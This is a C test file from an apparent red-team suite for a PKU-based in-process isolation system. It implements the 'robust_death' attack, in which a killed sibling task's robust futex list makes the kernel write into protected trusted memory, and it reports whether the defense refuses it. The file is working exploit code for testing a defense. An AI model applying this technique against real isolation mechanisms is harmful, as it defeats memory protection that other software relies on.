/* SPDX-License-Identifier: MIT */
/* atk_robust_death.c: the robust futex list the kernel walks when a task
 * dies, with the PKRU the task died with (red team 12, robust_death).
 *
 * The list head may be untrusted memory (that was all erim-tem judged), but
 * its entries are followed wherever they point: at exit the kernel sets
 * FUTEX_OWNER_DIED in every listed futex word that equals the dying task's
 * TID, reading and writing with the dying task's PKRU.  Trusted memory holds
 * TIDs (liberim records the owner's TID in its slots and frames), and a task
 * SIGKILLed inside trusted code (no handler, nothing a supervisor can hold)
 * dies with the trusted PKRU.  A clone(CLONE_VM) sibling (its own process,
 * the same memory) sets a list whose entry points at a trusted word, then
 * runs "trusted code" (WRPKRU to the trusted PKRU, write its TID into the
 * word, work, WRPKRU back) until it is killed.  The attack succeeds when the
 * kernel wrote FUTEX_OWNER_DIED into the trusted word.
 *
 * Under erim-tem no task of a registered process has a robust list: the
 * registering thread's is cleared at registration, tasks start without one,
 * and set_robust_list fails (ENOSYS) after registration. */
#include <sched.h>
#include <time.h>

#include "atk_common.h"

#define OWNER_DIED 0x40000000u
#define OFF_W 256   /* the trusted word that holds a TID */

struct rlist { struct rlist *next; };
struct rhead { struct rlist list; long futex_offset; struct rlist *pending; };

static struct rhead head;      /* untrusted memory */
static struct rlist entry;     /* untrusted memory */
static volatile int started;
static volatile long set_rc;

__attribute__((noinline)) static void gate(uint32_t tid)
{
	volatile uint32_t *w = (volatile uint32_t *)(atk_secret + OFF_W);

	atk_trusted();
	*w = tid;
	for (volatile int i = 0; i < 20000; i++)
		;
	*w = ATK_SECRET_BYTE * 0x01010101u;   /* the secret as it was */
	atk_untrusted();
}

static int sibling(void *arg)
{
	uint32_t tid = (uint32_t)syscall(SYS_gettid);

	(void)arg;
	head.list.next = &entry;
	entry.next = &head.list;
	head.futex_offset = (long)((uintptr_t)(atk_secret + OFF_W) - (uintptr_t)&entry);
	head.pending = NULL;
	set_rc = syscall(SYS_set_robust_list, &head, sizeof head) == 0 ? 0 : errno;
	{
		/* what the kernel really holds (erim-tem may run the call
		 * with another head) */
		void *h = NULL;
		size_t len = 0;

		if (set_rc == 0 && syscall(SYS_get_robust_list, 0, &h, &len) == 0 && h != (void *)&head)
			set_rc = -1;
	}
	started = 1;
	for (;;)
		gate(tid);
	return 0;
}

static enum atk_result atk_attack(void)
{
	static char stk[65536] __attribute__((aligned(16)));
	int tries;

	for (tries = 1; tries <= 60; tries++) {
		struct timespec ts = { 0, 1000000 + (tries % 7) * 331000 };
		uint32_t v;
		pid_t c;
		int st;

		started = 0;
		c = clone(sibling, stk + sizeof stk, CLONE_VM | SIGCHLD, NULL);
		if (c < 0) {
			atk_say("clone(CLONE_VM): %s", strerror(errno));
			return ATK_ERROR;
		}
		while (!started)
			sched_yield();
		if (tries == 1)
			atk_say("set_robust_list (head in untrusted memory, entry -> a trusted word): %s",
			        set_rc == 0 ? "accepted" : set_rc < 0 ? "returned 0, but the kernel holds another head"
			                                              : strerror((int)set_rc));
		nanosleep(&ts, NULL);
		kill(c, SIGKILL);
		waitpid(c, &st, 0);
		atk_trusted();
		v = *(volatile uint32_t *)(atk_secret + OFF_W);
		atk_untrusted();
		if ((v & ~0x80000000u) == OWNER_DIED) {   /* the TID replaced, FUTEX_WAITERS kept */
			atk_say("try %d: the sibling died inside trusted code; the kernel wrote %#x into the trusted word",
			        tries, v);
			return ATK_SUCCEEDED;
		}
		if (v != ATK_SECRET_BYTE * 0x01010101u) {
			/* killed between the two stores: put the secret back
			 * (trusted code's own value, not the kernel's) */
			atk_trusted();
			*(volatile uint32_t *)(atk_secret + OFF_W) = ATK_SECRET_BYTE * 0x01010101u;
			atk_untrusted();
		}
	}
	atk_say("the trusted word was never written by the kernel in %d tries", tries - 1);
	return ATK_REFUSED;
}

static const char *atk_name = "atk_robust_death";
static int atk_needs_pku = 1;   /* without a key the sibling never dies with more rights */
